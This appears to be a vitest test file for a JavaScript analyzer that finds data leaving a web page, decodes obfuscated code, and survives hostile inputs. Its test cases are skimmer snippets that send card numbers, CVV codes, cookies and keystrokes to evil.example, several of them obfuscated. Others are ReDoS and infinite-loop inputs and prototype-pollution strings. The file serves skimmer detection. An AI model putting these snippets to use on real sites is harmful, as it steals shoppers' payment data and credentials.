// Analysis of a program finds its effects on a page, through the usual obfuscation, and terminates on hostile code.
import { describe, expect, it } from 'vitest'
import { parseProgram } from '#program/index.ts'
import { factsOf, flows, look } from './look.ts'

describe('what leaves a page', () => {
  it.each([
    ['an image', 'new Image().src = "https://evil.example/p?c=" + document.querySelector("#cc-number").value', 'card > image evil.example'],
    [
      'fetch',
      'fetch("//evil.example/c", { method: "POST", body: JSON.stringify({ a: document.getElementById("cvv").value }) })',
      'card > fetch evil.example',
    ],
    [
      'a beacon',
      'navigator.sendBeacon("https://evil.example", document.forms[0].elements["card_number"].value)',
      'card > beacon evil.example',
    ],
    [
      'XMLHttpRequest',
      'var x = new XMLHttpRequest; x.open("POST", "https://evil.example/g"); x.send(document.cookie)',
      'cookie > xhr evil.example',
    ],
    [
      'a socket',
      'const w = new WebSocket("wss://evil.example/s"); addEventListener("keyup", (e) => w.send(e.key))',
      'keys > socket evil.example',
    ],
    [
      'a script element',
      'var s = document.createElement("script"); s.src = "https://evil.example/j?" + btoa(document.querySelector("[name=cc_cid]").value); document.head.appendChild(s)',
      'card > script evil.example',
    ],
    ['jQuery', '$.ajax({ url: "https://evil.example/a", type: "POST", data: $("#payment_form").serialize() })', 'form > ajax evil.example'],
    ['the address', 'location.href = "https://evil.example/?" + escape(document.cookie)', 'cookie > navigation evil.example'],
  ])('is seen in %s', (_name, text, flow) => {
    expect(flows(text)).toContain(flow)
  })

  it('is seen if a listener stores data that another function sends', () => {
    const text = `
      var kept = {};
      document.querySelectorAll('input[name*="card"]').forEach(function (field) { field.addEventListener('change', function (e) { kept[field.name] = e.target.value }) });
      setInterval(function () { if (Object.keys(kept).length > 0) navigator.sendBeacon('https://evil.example/', JSON.stringify(kept)) }, 1000)`
    expect(flows(text)).toContain('card > beacon evil.example')
  })

  it('is seen if a function runs repeatedly before there is anything to send', () => {
    const text = `
      var kept = null;
      function gather() { kept += document.querySelector('#cc-number').value }
      function step() { document.querySelector('form').addEventListener('submit', gather); if (kept != null) { new Image().src = 'https://evil.example/?' + kept } setTimeout('step()', 150) }
      window.onload = function () { step() }`
    expect(flows(text)).toContain('card > image evil.example')
  })

  it('is seen behind a condition that jQuery answers, and behind a flag that may be set', () => {
    const asked = `$("input").each(function () { $(this).change(function () {
      if (!/card/.test($(this).attr("name"))) { return }
      var bad = 0; if (!$("#cvv").val()) { bad = 1 }
      if (bad != 1) { $.post("https://evil.example/p", $("#cc_form").serialize()) } }) })`
    expect(flows(asked).some((flow) => flow.endsWith('> ajax evil.example') && flow !== ' > ajax evil.example')).toBe(true)
  })

  it.each([
    'Object.keys(all).length > 3',
    'Object.entries(all).length >= 4',
    'Object.values(all).length === 5',
    "'cvc' in all",
    "all.hasOwnProperty('cvc')",
    "Object.hasOwn(all, 'cvc')",
    'all.number && all.cvc',
  ])('is seen if it waits for keys that only the page names: %s', (test) => {
    const code = `let all = {}; document.addEventListener('change', (e) => { all = { ...all, [e.target.name]: e.target.value }; if (${test}) fetch('https://evil.example', { method: 'POST', body: JSON.stringify(all) }) })`
    expect(flows(code)).toContain('value > fetch evil.example')
    expect(flows(code.replace('all = { ...all, [e.target.name]: e.target.value }', 'all[e.target.name] = e.target.value'))).toContain(
      'value > fetch evil.example',
    )
  })

  it('is not mixed with the arguments of another call of the same function', () => {
    const text = `function same(v) { return v } function f() { same(document.querySelector("#card").value) } function g(q) { fetch("https://a.example/", { body: same(q) }) }
      function h(q) { fetch("https://b.example/", { body: same(q) }) } function i(q) { fetch("https://c.example/", { body: same(q) }) }`
    expect(flows(text)).toEqual([' > fetch a.example', ' > fetch b.example', ' > fetch c.example'])
  })

  it('is not made up: a validated form, a counter that is sent', () => {
    expect(
      flows(
        'document.querySelector("#card").addEventListener("input", (e) => { e.target.classList.toggle("bad", !/^\\d+$/.test(e.target.value)) })',
      ),
    ).toEqual([])
    expect(flows('fetch("https://stats.example/count", { method: "POST", body: "1" })')).toEqual([' > fetch stats.example'])
  })
})

describe('hidden text', () => {
  const hidden = 'https://evil.example/g'
  const sendTo = (address: string) => `fetch(${address}, { method: "POST", body: document.querySelector("#cvv").value })`
  it.each([
    ['base64', sendTo(`atob("${btoa(hidden)}")`)],
    ['character codes', sendTo(`String.fromCharCode(${[...hidden].map((one) => one.charCodeAt(0)).join()})`)],
    [
      'codes in a list',
      sendTo(
        `[${[...hidden].map((one) => one.charCodeAt(0) ^ 7).join()}].map(function (c) { return String.fromCharCode(c ^ 7) }).join("")`,
      ),
    ],
    ['hexadecimal escapes', sendTo(`unescape("${[...hidden].map((one) => `%${one.charCodeAt(0).toString(16)}`).join('')}")`)],
    ['a text turned round', sendTo(`"${[...hidden].reverse().join('')}".split("").reverse().join("")`)],
    ['parts with a wrong letter', sendTo(`"${hidden.split('').join('~')}".replace(/~/g, "")`)],
    [
      'a rotated list of texts behind a function',
      `var list = ["/g", "https://", "evil.", "example"]; (function (a, n) { while (--n) a.push(a.shift()) })(list, 2); function at(i) { i = i - 16; return list[i] }
       ${sendTo('at(16) + at(17) + at(18) + at(19)')}`,
    ],
    ['eval of text', `eval(${JSON.stringify(sendTo(JSON.stringify(hidden)))})`],
    [
      'a packer',
      `eval(function (p, k) { return p.replace(/\\b\\w\\b/g, function (w) { return k[parseInt(w, 36)] || w }) }('0("1", { 2: 3.4("#5").6 })', ['fetch', '${hidden}', 'body', 'document', 'querySelector', 'cvv', 'value']))`,
    ],
    ['a constructor of functions', `[]["filter"]["constructor"](${JSON.stringify(sendTo(JSON.stringify(hidden)))})()`],
    ['a timer with text', `setTimeout(${JSON.stringify(sendTo(JSON.stringify(hidden)))}, 10)`],
  ])('by %s is decoded', (_name, text) => {
    expect(flows(text)).toContain('card > fetch evil.example')
  })

  it('is reported with the text that the program builds and runs', () => {
    const { findings } = look('eval(atob("YWxlcnQoMSk="))')
    expect(findings.texts).toEqual(['alert(1)'])
    expect(findings.facts).toContainEqual(expect.objectContaining({ kind: 'runs-text', how: 'eval', decoded: true }))
  })
})

describe('other effects of a program', () => {
  it('list its conditions', () => {
    expect(factsOf('if (/checkout|onepage/.test(location.href)) start()', 'gate')[0]).toMatchObject({
      on: 'address',
      test: expect.stringContaining('checkout|onepage'),
    })
    expect(factsOf('if (window.outerWidth - window.innerWidth > 160) { stop() }', 'gate')[0]).toMatchObject({ on: 'tools' })
  })

  it('replaces functions of the browser, makes frames and fields, listens', () => {
    expect(
      factsOf(
        'var s = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (b) { return s.call(this, b) }',
        'overrides',
      ),
    ).toMatchObject([{ name: 'XMLHttpRequest.prototype.send' }])
    expect(
      factsOf('document.body.innerHTML += \'<form action="https://evil.example/pay"><input name="cc"></form>\'', 'writes-markup')[0],
    ).toMatchObject({ tags: ['form', 'input'] })
    expect(factsOf('document.getElementById("cc-csc").onkeyup = function () {}', 'listens')[0]).toMatchObject({
      event: 'keyup',
      target: 'card',
    })
  })

  it('include functions that nobody calls, and both branches of a condition', () => {
    expect(flows('function never() { if (isMobile) fetch("https://a.example/", {}); else fetch("https://b.example/", {}) }')).toEqual([
      ' > fetch a.example',
      ' > fetch b.example',
    ])
  })
})

describe('hostile code', () => {
  it.each([
    ['a loop without end', 'while (true) { x = 1 }'],
    ['recursion without end', '(function f() { f() })()'],
    ['a text that doubles', 'var a = "x"; for (;;) a += a'],
    ['a list that grows', 'var a = [1]; for (;;) a = a.concat(a)'],
    ['a pattern that never ends', `/^(a+)+$/.test("${'a'.repeat(60)}!")`],
    ['a pattern with many repetitions', `/a*a*a*a*a*a*a*a*b/.test("${'a'.repeat(3_000)}")`],
    ['nested arrays', `${'['.repeat(400)}${']'.repeat(400)}`],
    ['a long sum', Array.from({ length: 20_000 }, () => '1').join('+')],
    ['eval of itself', 'var t = "eval(t)"; eval(t)'],
    ['JSON of a ring', 'var a = {}; a.a = a; JSON.stringify(a)'],
    ['a timer that sets itself', 'function f() { setTimeout("f()", 1); setTimeout(f, 1) } f()'],
    ['calls that branch without end', 'function f(a) { if (a.x) { f(a.y); f(a.z) } f(a.p); f(a.q) } window.onclick = f'],
    ['sorting by contradiction', '[3, 1, 2].sort(function () { return Math.random() - 0.5 })'],
  ])('%s is given up and reported', (_name, text) => {
    expect(() => look(text, { stepsMax: 200_000, sweepStepsMax: 50_000 })).not.toThrow()
  })

  it('that is nested too deep has no tree, and nothing is thrown', () => {
    expect(parseProgram(`${'['.repeat(100_000)}${']'.repeat(100_000)}`)).toBeNull()
  })

  it('reports if it could not analyze everything', () => {
    expect(look('for (;;) {}', { stepsMax: 1_000 }).ended).toBe(false)
    expect(look('a = 1').ended).toBe(true)
  })

  it('is analyzed once per function, however often they call each other', () => {
    const names = Array.from({ length: 60 }, (_, index) => `f${index}`)
    const text = names
      .map(
        (name, index) =>
          `function ${name}(a) { ${names
            .slice(index + 1)
            .map((other) => `${other}(a.b)`)
            .join(';')} }`,
      )
      .join('\n')
    const { ended, steps } = look(text)
    expect(ended).toBe(true)
    expect(steps).toBeLessThan(100_000)
  })

  it("accesses none of the analyzer's objects", () => {
    look(
      '({}).__proto__.polluted = 1; Object.prototype.polluted = 1; [].constructor.constructor("return this")().polluted = 1; JSON.parse(\'{"__proto__":{"polluted":1}}\')',
    )
    expect(({} as Record<string, unknown>).polluted).toBeUndefined()
    expect((globalThis as Record<string, unknown>).polluted).toBeUndefined()
  })
})
